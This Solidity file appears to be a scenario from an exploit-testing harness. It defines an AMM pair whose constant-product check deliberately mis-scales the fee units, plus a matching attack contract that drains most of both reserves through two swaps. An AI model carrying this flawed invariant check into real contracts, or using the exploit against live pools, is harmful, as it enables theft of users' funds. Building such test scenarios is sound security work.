// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// The check of the product forgot that the fee is counted in other units.
contract LoosePair is Pair {
    constructor(IERC20 a, IERC20 b) Pair(a, b) {}

    function _check(uint256 held0, uint256 held1) internal view override {
        (uint112 r0, uint112 r1,) = getReserves();
        require(held0 * held1 >= uint256(r0) * r1 * 1e4, "K");
    }
}

contract KInvariantScene is Scene {
    Token public usd;
    Token public coin = new Token("COIN", 18);
    LoosePair public pair;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        _asset(address(coin), "COIN", 18, 1e6);
        pair = new LoosePair(IERC20(address(coin)), IERC20(address(usd)));
        coin.mint(address(pair), 1_500_000e18);
        usd.mint(address(pair), 1_500_000e18);
        pair.mint(address(this));
        _protect(address(pair));
        _loan(IERC20(address(usd)), 200_000e18);
        loot0 = IERC20(address(usd));
        loot1 = IERC20(address(coin));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 200_000e18, address(pair));
        _arm(coin, users, 200_000e18, address(pair));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        (uint112 r0, uint112 r1,) = pair.getReserves();
        return (address(pair), 0, abi.encodeCall(Pair.trade, (r0 < r1, _amount(dice, 50e18, 3_000e18), who)));
    }
}

contract KInvariantAttack is Attack {
    LoosePair private immutable pair;

    constructor(KInvariantScene scene) Attack(scene) {
        pair = scene.pair();
    }

    function _act(uint256, uint256, uint256 count) internal override {
        // One side for next to nothing, then the other.
        (uint112 r0, uint112 r1,) = pair.getReserves();
        loanToken.transfer(address(pair), 2_000e18);
        pair.swap(uint256(r0) * 9 / 10 / count, 0, address(this));
        loot1.transfer(address(pair), 2_000e18);
        pair.swap(0, uint256(r1) * 8 / 10 / count, address(this));
    }
}
